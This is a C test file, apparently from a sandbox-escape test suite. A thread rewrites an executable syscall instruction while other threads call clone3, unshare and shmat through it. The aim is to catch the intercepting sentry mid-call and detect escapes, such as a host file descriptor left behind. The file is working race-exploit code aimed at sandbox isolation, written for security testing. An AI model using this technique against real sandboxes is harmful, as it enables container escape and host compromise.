// Calls made from code that another thread keeps rewriting. When the sentry stops a task and has it make a host call at
// the same instruction, the instruction may be another one by then, and the program goes on in the middle of the
// sentry's business: the register then still holds the number of the host's call.
// Seconds: 2
#include "hostile.h"
#include <sys/ipc.h>
#include <sys/shm.h>

static unsigned char *code;
static atomic_int unwanted;

static void flipper(void) {
    volatile uint16_t *place = (uint16_t *)(code + 16);
    while (1) {
        *place = 0x9090;  // nop; nop
        for (int i = 0; i < 30; i++) asm volatile("pause");
        *place = 0x050f;  // syscall
        for (int i = 0; i < 30; i++) asm volatile("pause");
    }
}

static long at_code(long number, long a, long b, long c, long d, long e) {
    register long r10 asm("r10") = d, r8 asm("r8") = e, r9 asm("r9") = 0;
    long result;
    asm volatile("call *%[code]"
                 : "=a"(result)
                 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9), [code] "r"(code + 16)
                 : "rcx", "r11", "memory");
    return result;
}

static void *unsharer(void *unused) {
    long result = at_code(SYS_unshare, CLONE_FILES, 0, 0, 0, 0);
    // An honest call brings 0 or an errno; nothing at all leaves the number in place.
    if (result != 0 && result > 0 && result != SYS_unshare) escape();
    return NULL;
}

static void try_clone(void) {
    static struct clone_args arguments;
    arguments = (struct clone_args){.exit_signal = SIGCHLD};
    long result = at_code(SYS_clone3, (long)&arguments, sizeof arguments, 0, 0, 0);
    if (result == SYS_clone) {
        // In the middle of a clone: does any clone pass now?
        long pid = RAW(SYS_clone, CLONE_UNTRACED | SIGCHLD);
        if (pid == 0) outlive();
        escape();
    } else if (result == 0) RAW(SYS_exit_group, 0);
    int pidfd = -1;
    arguments = (struct clone_args){.flags = CLONE_PIDFD, .pidfd = (uint64_t)&pidfd, .exit_signal = SIGCHLD};
    result = at_code(SYS_clone3, (long)&arguments, sizeof arguments, 0, 0, 0);
    if (result == 0) RAW(SYS_exit_group, 0);
    if (result >= 512 && result < 2000) escape();
    if (pidfd >= 0) close(pidfd);
    while (waitpid(-1, NULL, WNOHANG) > 0) {}
}

static void try_shared_memory(void) {
    int id = shmget(IPC_PRIVATE, 4096, 0600);
    long result = at_code(SYS_shmat, id, 0, SHM_RDONLY, 0, 0);
    if (result == SYS_mmap || result == SYS_close || result == SYS_munmap) {
        escape();
        // What was lent for the mapping may still be in the host's table.
        for (int fd = 64; fd < 200; fd++) {
            char byte;
            if (RAW(SYS_pread64, fd, &byte, 1, 0) == 1 && fcntl(fd, F_GETFD) < 0)
                succeeded("kept a lent descriptor, %d", fd);
        }
    } else if (result > 4096) {
        at_code(SYS_shmdt, result, 0, 0, 0, 0);
    }
    shmctl(id, IPC_RMID, NULL);
}

static void attack(void) {
    code = shared_pages(4096, PROT_READ | PROT_WRITE | PROT_EXEC);
    code[18] = 0xc3;  // ret
    memcpy(code + 16, "\x0f\x05", 2);
    racer(flipper);
    while (left() > 0) {
        pthread_t thread;
        if (pthread_create(&thread, NULL, unsharer, NULL) == 0) pthread_join(thread, NULL);
        try_clone();
        try_shared_memory();
        round_done();
    }
}
